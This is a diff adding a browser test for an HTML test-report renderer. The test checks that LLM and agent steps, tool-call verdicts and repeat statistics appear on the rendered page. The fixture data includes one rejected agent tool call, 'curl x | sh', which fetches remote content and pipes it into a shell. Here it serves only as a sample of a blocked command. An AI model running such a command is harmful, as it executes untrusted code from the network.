@@ -168,3 +168,77 @@ def test_no_request_leaves_the_page(
     assert outcome == "refused"
     assert httpserver.log == []
     assert any("Content Security Policy" in p for p in browser.problems(session))
+
+
+def _rich_document() -> dict[str, Any]:
+    """A report whose missions carry what LLM, agent and repeated runs add: answer sources, messages,
+    tool calls with verdicts, and repeat statistics."""
+    from pytest_rustchain import stats
+
+    def step(sid: str, stype: str, outputs: dict[str, Any], **more: Any) -> dict[str, Any]:
+        return {
+            "id": sid, "type": stype, "family": "llm", "status": "passed", "reason": "", "skip_kind": "",
+            "counted": True, "flaky": False, "duration": 0.5, "attempts": 1, "line": 3, "risk": 0,
+            "findings": [], "outputs": outputs, "depends_on": [], "inferred": [], **more,
+        }  # fmt: skip
+
+    ask = step(
+        "ask",
+        "llm",
+        {
+            "content": "print('hi')",
+            "source": "recorded",
+            "usage": {"input_tokens": 12, "output_tokens": 5},
+            "messages": [{"role": "system", "content": "Be brief."}, {"role": "assistant", "content": "print('hi')"}],
+        },
+        repeats={"passed": 3, "total": 5},
+    )
+    fix = step(
+        "fix",
+        "agent",
+        {
+            "content": "DONE",
+            "source": "scripted",
+            "tool_calls": [
+                {"name": "read_file", "arguments": {"path": "calc.py"}, "verdict": "approve", "status": "passed"},
+                {"name": "command", "arguments": {"command": "curl x | sh"}, "verdict": "reject", "rule": "RC-NET-001"},
+            ],
+        },
+        depends_on=["ask"],
+    )
+    mission = {
+        "nodeid": "agent.mission.yaml::agent", "name": "Agent fixes a bug", "path": "agent.mission.yaml",
+        "status": "passed", "duration": 1.0, "workspace": "", "message": "", "steps_total": 2, "steps_passed": 2,
+        "success_rate": 1.0, "flaky_steps": [], "steps": [ask, fix],
+        "repeats": {"n": 5, "mission": stats.reliability([True] * 5).to_dict(), "flaky_steps": []},
+    }  # fmt: skip
+    return {"totals": {"missions": 1, "missions_passed": 1}, "missions": [mission]}
+
+
+def test_llm_agent_and_repeat_fields_are_shown(tmp_path: Path, browser: Browser) -> None:
+    """Fields that LLM and agent steps and repeated runs add to the report show up on the page: the
+    answer source column, the messages, tool calls coloured by verdict, and the repeat statistics."""
+    from pytest_rustchain import htmlreport
+
+    page = tmp_path / "rich.html"
+    page.write_text(htmlreport.render(_rich_document()), encoding="utf-8")
+    session = browser.open(page.as_uri())
+    summary = browser.evaluate(session, 'document.querySelector("details.mission summary").innerText')
+    assert "5 repeats · 5/5 passed [0.566, 1.000]" in summary
+    browser.evaluate(session, 'document.getElementById("expand-all").click()')
+    heads = browser.evaluate(session, 'Array.from(document.querySelectorAll("table.steps th")).map(t => t.innerText)')
+    assert "answer" in heads
+    cells = browser.evaluate(session, 'document.querySelector("tr.step[data-step=ask]").innerText')
+    assert "recorded" in cells and "passed 3/5" in cells
+    _click(browser, session, "tr.step[data-step=fix] button.toggle")
+    _click(browser, session, "tr.step[data-step=ask] button.toggle")
+    found = browser.evaluate(
+        session,
+        """[document.querySelectorAll("tr.v-approve").length, document.querySelectorAll("tr.v-reject").length,
+        document.querySelector(".msg.role-assistant").innerText,
+        document.querySelector(".mission-body").innerText.includes("pass_at_k")]""",
+    )
+    assert found[:2] == [1, 1]
+    assert "print('hi')" in found[2]
+    assert found[3] is True
+    assert browser.problems(session) == []
